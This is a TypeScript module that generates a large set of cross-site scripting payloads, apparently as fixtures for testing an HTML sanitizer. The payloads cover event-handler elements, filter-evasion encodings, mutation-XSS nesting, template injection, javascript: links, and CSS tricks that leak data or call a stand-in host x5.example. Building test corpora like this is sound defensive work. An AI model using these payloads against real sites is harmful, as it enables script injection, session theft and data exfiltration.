/** What would be known if one of them did anything: a global that is set, or a request to this host. */
export const markOfPayload = '__switchyardX5'
export const hostOfPayload = 'x5.example'

const run = `window.${markOfPayload}=1`
const url = `//${hostOfPayload}/p`

/** Elements that run something by themselves, with the event that does it. */
const selfRunning: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['img/src=x', 'onerror'],
  ['img src=x:x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['keygen autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><animatetransform', 'onbegin'],
  ['svg><g', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['object data=about:blank', 'onload'],
  ['embed src=about:blank', 'onload'],
  ['style', 'onload'],
  ['link rel=stylesheet href=data:,', 'onload'],
  ['script src=data:,', 'onerror'],
  ['marquee', 'onstart'],
  ['math href=x', 'onclick'],
  ['div style=animation-name:x', 'onanimationstart'],
  ['x tabindex=1 autofocus', 'onfocus'],
  ['form><button formaction=x autofocus', 'onfocus'],
  ['meter autofocus tabindex=0', 'onfocus'],
]

/** Ways to write such an element past a filter. */
const disguises: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${run}>`,
  (element, event) => `<${element} ${event}="${run}">`,
  (element, event) => `<${element.toUpperCase()} ${event.toUpperCase()}='${run}'//`,
  (element, event) => `<${element}\n${event}\n=\n"${run}">`,
  (element, event) => `"><${element} ${event}=${run}>`,
  (element, event) => `'"--></title></style></textarea></script><${element} ${event}="${run}">`,
  (element, event) => `&lt;${element} ${event}=${run}&gt;`,
  (element, event) => `<${element}\u0009${event}=${run}\u000c>`,
  (element, event) => `<<${element} ${event}=${run}>>`,
  (element, event) => `<${element} x="${'a'.repeat(40)}" ${event}&#61;"${run}">`,
  (element, event) => `<!--><${element} ${event}=${run}>-->`,
  (element, event) => `\u202e<${element} ${event}=${run}>\u202c`,
]

/** Trees that change when they are written and read again (mXSS), and namespaces that lead out of their element. */
const nested = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<template><img src=x onerror=${run}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<table><td background="${url}"><img src=x onerror=${run}>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `<svg><script xlink:href="data:,${run}"></script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/>`,
  `<script>${run}</script>`,
  `<script\u0000>${run}</script>`.replace('\u0000', ''),
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type=module>${run}</script>`,
  `<script src="${url}.js"></script>`,
  `</script><script>${run}</script>`,
  '{{constructor.constructor("' + run + '")()}}',
  '${' + run + '}',
  '#{' + run + '}',
  '<%= ' + run + ' %>',
  `[x](javascript:${run})`,
  `![x](${url}.png)`,
  `![x](x"onerror="${run})`,
  `<javascript:${run}>`,
  `<a href="javascript:${run}" autofocus>x</a>`,
]

/** What asks another host, or shows things elsewhere, without running anything. */
const asking =
  `img src|img srcset|image href|iframe src|embed src|object data|video poster|audio src|source src|track src
link rel=stylesheet href|link rel=prefetch href|link rel=dns-prefetch href|link rel=preload as=image href|base href
body background|table background|input type=image src|script src|frame src|portal src|form autofocus action|a ping
bgsound src|link rel=manifest href`
    .split(/[|\n]/)
    .map((start) => `<${start}="${url}">`)

const styles = [
  `background:url(${url})`,
  `background-image:url("${url}")`,
  `list-style:url(${url})`,
  `content:url(${url})`,
  `cursor:url(${url}),auto`,
  `border-image:url(${url})`,
  `mask:url(${url}#m)`,
  `filter:url(${url}#f)`,
  `behavior:url(${url})`,
  `width:expression(${run})`,
  `position:fixed;inset:0;z-index:2147483647;background:red`,
  `position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0`,
  `display:none!important`,
]
const styled = styles.flatMap((style) => [
  `<div style="${style}">x</div>`,
  `<style>*{${style}}</style>`,
  `<style>@import "${url}.css";body{${style}}</style>`,
  `</style><style>body{${style}}`,
])
const leaking = [
  `<style>input[value^="a"]{background:url(${url}a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${url}.woff);unicode-range:U+0041}*{font-family:x}</style>`,
  `<style>@import url(${url}.css);</style>`,
  `<meta http-equiv=refresh content="0;url=http:${url}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base target=_top href=http:${url}>`,
  `<link rel=stylesheet href="${url}.css">`,
]

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
]
const links = schemes.flatMap((scheme) => [
  `<a href="${scheme}${run}">x</a>`,
  `<form action="${scheme}${run}"><input type=submit autofocus>`,
  `<iframe src="${scheme}${run}"></iframe>`,
  `<svg><a xlink:href="${scheme}${run}"><text y=9>x</text></a></svg>`,
  `${scheme}${run}`,
])

/** HTML, SVG, CSS and template payloads, each once: more than five hundred. */
export const htmlPayloads: readonly string[] = [
  ...new Set([
    ...selfRunning.flatMap(([element, event]) => disguises.map((disguise) => disguise(element, event))),
    ...nested,
    ...asking,
    ...styled,
    ...leaking,
    ...links,
  ]),
]
